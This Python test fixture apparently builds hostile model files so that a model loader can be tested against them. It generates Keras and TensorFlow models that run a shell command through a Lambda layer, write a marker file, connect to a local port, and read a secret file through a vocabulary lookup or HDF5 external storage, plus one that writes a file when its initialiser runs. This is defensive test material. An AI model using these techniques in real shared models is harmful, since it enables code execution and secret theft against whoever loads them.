"""Models that attack whoever loads them, made with the libraries that load them.

    python -m tests.misbehaving.hostile_models FOLDER SECRET MARKER PORT

writes them to FOLDER. Loaded without care they make the file MARKER, connect to PORT of this machine,
or bring the contents of SECRET (at least 32 bytes) along as a weight or a vocabulary.
"""

from __future__ import annotations

import shutil
import sys
from pathlib import Path

CASES = (
    "runs_a_program.h5",
    "writes_a_file.h5",
    "connects.h5",
    "reads_by_lookup.keras",
    "reads_by_external_storage.h5",
    "writes_when_initialised.zip",
)
_SHAPE = (2, 4)


def main(folder: Path, secret: Path, marker: Path, port: int) -> None:
    import tf_keras

    code = {
        "runs_a_program.h5": f"__import__('os').system('touch {marker}')",
        "writes_a_file.h5": f"open({str(marker)!r}, 'w').close()",
        "connects.h5": f"__import__('socket').create_connection(('127.0.0.1', {port}), 2).close()",
    }
    for name, expression in code.items():
        function = eval(f"lambda x: ({expression}, x)[1]")
        tf_keras.Sequential([tf_keras.layers.Lambda(function, input_shape=(2,))]).save(folder / name)
    lookup = tf_keras.layers.StringLookup(vocabulary=str(secret))
    words = tf_keras.Input((), dtype="string")
    tf_keras.Model(words, lookup(words)).save(folder / "reads_by_lookup.keras")
    _external_storage(folder / "reads_by_external_storage.h5", secret)
    _initialiser(folder / "writes_when_initialised.zip", marker)
    marker.unlink()


def _external_storage(path: Path, secret: Path) -> None:
    import h5py
    import tf_keras

    layer = tf_keras.layers.Dense(_SHAPE[1], use_bias=False, input_shape=_SHAPE[:1])
    tf_keras.Sequential([layer]).save(path)
    with h5py.File(path, "r+") as file:
        (name,) = [name for name in _datasets(file) if name.endswith("kernel:0")]
        del file[name]
        file.create_dataset(name, _SHAPE, "f4", external=[(str(secret), 0, 32)])


def _datasets(file: object) -> list[str]:
    found: list[str] = []
    file.visit(found.append)  # type: ignore[attr-defined]
    return found


def _initialiser(path: Path, marker: Path) -> None:
    import tensorflow as tf

    class Writer(tf.saved_model.experimental.TrackableResource):  # type: ignore[misc]
        def _create_resource(self) -> object:
            return tf.raw_ops.MutableHashTableV2(key_dtype=tf.string, value_dtype=tf.int64)

        def _initialize(self) -> None:
            tf.io.write_file(str(marker), "x")

    module = tf.Module()
    module.writer = Writer()
    folder = path.with_suffix("")
    tf.saved_model.save(module, str(folder))
    shutil.make_archive(str(folder), "zip", folder)


if __name__ == "__main__":
    main(*(Path(argument).resolve() for argument in sys.argv[1:4]), int(sys.argv[4]))
